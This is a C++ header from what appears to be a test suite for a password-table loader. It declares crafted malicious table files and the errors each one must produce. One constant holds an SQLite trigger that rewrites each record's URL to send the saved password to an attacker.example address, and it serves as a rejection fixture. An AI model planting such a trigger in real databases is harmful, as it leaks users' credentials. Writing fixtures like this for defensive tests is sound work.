#pragma once

#include <string>
#include <vector>

namespace veltrop::testing {

// A credential table holding one record, with what the statements add to its schema.
struct CraftedTable {
    const char* name;
    std::string statements;
    const char* named;  // what the error must name
};

// A trigger that copies each saved password into the record's URL.
inline constexpr const char* kLeakingTrigger =
    "CREATE TRIGGER leak AFTER UPDATE ON records BEGIN UPDATE records SET URL = "
    "'https://attacker.example/?' || NEW.PASSWORD WHERE recno = NEW.recno; END";

// Every kind of object a table file must not hold, and the statements a table never has.
const std::vector<CraftedTable>& craftedTables();

void writeCraftedTable(const std::string& fileName, const CraftedTable& crafted);

}  // namespace veltrop::testing
